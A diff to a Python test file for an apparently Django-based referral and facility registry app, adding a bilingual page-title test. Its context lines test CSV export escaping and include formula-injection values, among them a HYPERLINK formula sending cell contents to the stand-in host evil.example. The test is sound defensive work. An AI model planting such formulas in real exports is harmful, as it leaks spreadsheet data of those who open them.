@@ -499,3 +499,15 @@ def test_attack_a_facility_named_as_a_formula_in_the_registry_comes_out_of_the_e
     assert row[4] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click"), @SUM(1+1), China'
     assert row[5:8] == ["'-2+3", "'\t=1+1", "' =1"]
     assert not any(cell and cell[0] in "=+-@\t\r" for line in csv.reader(io.StringIO(body)) for cell in line)
+
+
+@pytest.mark.parametrize(
+    ("language", "title", "not_title"),
+    [
+        ("en", "<title>Referrals – study staff</title>", "Referrals – Referrals"),
+        ("zh-hans", "<title>转介 – 研究人员</title>", "转介 – 转介"),
+    ],
+)
+def test_the_referral_list_s_title_names_the_page_once(staff_a_client, language, title, not_title):
+    page = staff_a_client.get(reverse("staff:list"), HTTP_ACCEPT_LANGUAGE=language).content.decode()
+    assert title in page and not_title not in page
